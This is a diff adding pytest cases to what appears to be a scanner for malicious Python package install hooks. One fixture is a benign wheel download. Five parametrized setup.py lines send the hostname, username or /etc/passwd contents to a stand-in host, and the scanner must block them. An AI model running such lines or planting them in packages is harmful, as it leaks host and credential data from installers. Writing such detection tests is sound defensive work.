@@ -244,3 +244,56 @@ def test_exec_reached_by_lookup_of_an_inert_literal_warns(
              f"exec_({code})\nsetup()\n")
     findings = scan_path(make_sdist(tmp_path, "tool", "1.0", {"setup.py": setup}))
     assert any(f.severity >= Severity.HIGH for f in findings) is blocked
+
+
+PREBUILT = """
+import platform, sys, urllib.request
+from setuptools import setup
+from setuptools.command.bdist_wheel import bdist_wheel
+
+def version():
+    with open("pkg/__init__.py") as handle:
+        return handle.read().split('"')[1]
+
+def wheel_url():
+    machine = platform.uname().machine
+    name = f"pkg-{version()}-cp{sys.version_info.major}{sys.version_info.minor}-linux_{machine}.whl"
+    return "https://github.com/example/pkg/releases/download/v1/" + name, name
+
+class CachedWheels(bdist_wheel):
+    def run(self):
+        url, name = wheel_url()
+        urllib.request.urlretrieve(url, name)
+
+setup(cmdclass={"bdist_wheel": CachedWheels})
+"""
+
+
+def test_prebuilt_wheel_download_warns_but_is_not_exfiltration(tmp_path: Path) -> None:
+    """flash-attn: bdist_wheel fetches a prebuilt wheel named after the platform and the
+    version in the tree's own file. urlretrieve's second argument is where the download goes,
+    not something sent, and uname's machine field is what pip's User-Agent tells every index."""
+    files = {"setup.py": PREBUILT, "pkg/__init__.py": '__version__ = "1.0"\n'}
+    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", files))
+    assert _worst(findings, "hook/env-exfiltration") is None
+    assert _worst(findings, "hook/network-fetch") is Severity.MEDIUM
+    assert max(f.severity for f in findings) < Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        "urllib.request.urlretrieve('https://example.invalid/?h=' + platform.uname().node, 'x')",
+        "urllib.request.urlretrieve('https://example.invalid/?h=' + str(platform.uname()), 'x')",
+        "u = platform.uname()\nurllib.request.urlretrieve('https://example.invalid/' + u[1], 'x')",
+        "urllib.request.urlretrieve('https://example.invalid/', 'x', None, "
+        "open('/etc/passwd', 'rb').read())",
+        "urllib.request.urlretrieve(*['https://example.invalid/?u=' + getpass.getuser(), 'x'])",
+    ],
+    ids=["node", "whole-uname", "uname-index", "posted-data", "starred"],
+)
+def test_host_identity_sent_by_urlretrieve_still_blocks(tmp_path: Path, sent: str) -> None:
+    setup = "import getpass, platform, urllib.request\nfrom setuptools import setup\n"
+    files = {"setup.py": setup + sent + "\nsetup()\n"}
+    findings = scan_path(make_sdist(tmp_path, "pkg", "1.0", files))
+    assert max(f.severity for f in findings) >= Severity.HIGH
